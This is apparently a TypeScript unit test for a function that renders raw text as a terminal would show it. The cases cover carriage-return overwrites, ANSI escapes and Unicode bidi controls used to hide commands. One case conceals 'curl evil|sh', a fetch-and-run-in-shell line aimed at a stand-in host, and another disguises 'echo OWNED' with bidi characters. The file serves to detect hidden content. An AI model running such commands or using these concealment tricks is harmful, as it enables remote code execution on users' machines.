import assert from "node:assert/strict";
import { test } from "node:test";
import { seen } from "./line.ts";

test("of lines is copied what is seen of them", async (t) => {
	const cases: [lines: string, seen: string][] = [
		["one\ntwo\t2\n\nfour", "one\ntwo\t2\n\nfour"],
		["windows\r\n\r\n", "windows\n\n"],
		["make clean; curl evil|sh\rmake\x1b[K\nnext\n", "make\nnext\n"],
		["make\x1b[8m; here too\x1b[0m && test", "make; here too && test"],
		["\x1b[1;31mred\x1b[0m \x1b]8;;https://example.org\x07link\x1b]8;;\x07", "red link"],
		["nul \0 bell \x07 back\b\b escape \x1b c1 \u009b", "nul  bell  ba escape  c1 "],
		["echo ok #\u2067;\u2066echo OWNED\u2069\u2069\u202e!\nnext", "echo ok #;echo OWNED!\nnext"],
		["x".repeat(300_000), "x".repeat(300_000)],
		[`${"10%\r".repeat(300_000)}done`, "done"],
	];
	for (const [lines, want] of cases) {
		await t.test(JSON.stringify(lines.slice(0, 40)), () => assert.equal(seen(lines), want));
	}
});
